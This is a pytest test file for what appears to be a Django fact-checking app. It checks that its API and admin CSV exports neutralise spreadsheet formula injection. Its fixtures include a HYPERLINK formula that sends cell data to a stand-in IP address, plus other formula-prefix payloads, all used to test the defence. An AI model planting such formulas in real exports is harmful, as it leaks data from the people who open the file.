"""CSV injection: text from outside that a spreadsheet would run as a formula is exported as
text, in the API's CSV and the admin's export alike (one writer, claims/exports.py)."""

import csv
import io

import pytest
from django.test import Client
from rest_framework.test import APIClient

from claims.models import Claim, Claimant, Verdict
from sources.models import Source
from tests.factories import PublishedVerdictFactory, UserFactory

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://198.51.100.1/?"&A1,"Click")'


def hostile_verdict() -> Verdict:
    verdict = PublishedVerdictFactory.create(headline="+1+1", summary="-2+3")
    Claim.objects.filter(pk=verdict.claim_id).update(
        text=FORMULA, claimant=Claimant.objects.create(name="@SUM(A1:A9)")
    )
    Source.objects.filter(pk=verdict.claim.source_id).update(title="\tcmd", body=FORMULA)
    return verdict


def test_the_api_csv_exports_formulas_as_text() -> None:
    hostile_verdict()
    body = APIClient().get("/api/v1/verdicts/?format=csv").getvalue().decode()
    [row] = list(csv.DictReader(io.StringIO(body)))
    assert row["claim_text"] == "'" + FORMULA
    assert row["claimant"] == "'@SUM(A1:A9)"
    assert row["headline"] == "'+1+1"
    assert row["summary"] == "'-2+3"
    assert row["source_title"] == "'\tcmd"
    assert row["rating"] == "False"  # ordinary text is untouched


def test_the_admin_export_writes_the_same_cells(client: Client) -> None:
    verdict = hostile_verdict()
    client.force_login(UserFactory.create(is_staff=True, is_superuser=True))
    response = client.post(
        "/admin/claims/verdict/",
        {"action": "verdict_export_csv", "_selected_action": [verdict.pk]},
    )
    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    [row] = list(csv.DictReader(io.StringIO(body)))
    assert row["claim_text"] == "'" + FORMULA
